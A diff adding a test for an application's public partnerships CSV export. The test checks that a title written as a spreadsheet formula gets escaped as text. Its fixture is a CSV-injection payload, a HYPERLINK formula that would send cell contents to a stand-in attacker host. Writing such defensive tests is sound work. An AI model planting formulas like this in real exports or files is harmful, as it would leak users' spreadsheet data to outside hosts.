@@ -211,3 +211,21 @@ describe('rate limit', () => {
     }
   }, 120_000);
 });
+
+describe('open data CSV and spreadsheets', () => {
+  it('writes a title that looks like a formula as text, so a spreadsheet never runs it', async () => {
+    const [row] = await ctx.db.select({ title: partnerships.title }).from(partnerships).where(eq(partnerships.id, fixture.ids.metallurgy));
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+    await ctx.db.update(partnerships).set({ title: formula }).where(eq(partnerships.id, fixture.ids.metallurgy));
+    try {
+      const csv = await ctx.app.inject({ method: 'GET', url: '/api/public/partnerships.csv' });
+      const [header, ...rows] = parseCsv(csv.body.replace(/^\uFEFF/, ''));
+      const line = rows.find((cells) => cells[header.indexOf('Identifier')] === identifierOf(fixture.ids.metallurgy))!;
+      expect(line[header.indexOf('Title')]).toBe(`'${formula}`);
+      // Amounts stay numbers.
+      expect(line[header.indexOf('Amount Awarded')]).toMatch(/^\d+$/);
+    } finally {
+      await ctx.db.update(partnerships).set({ title: row.title }).where(eq(partnerships.id, fixture.ids.metallurgy));
+    }
+  });
+});
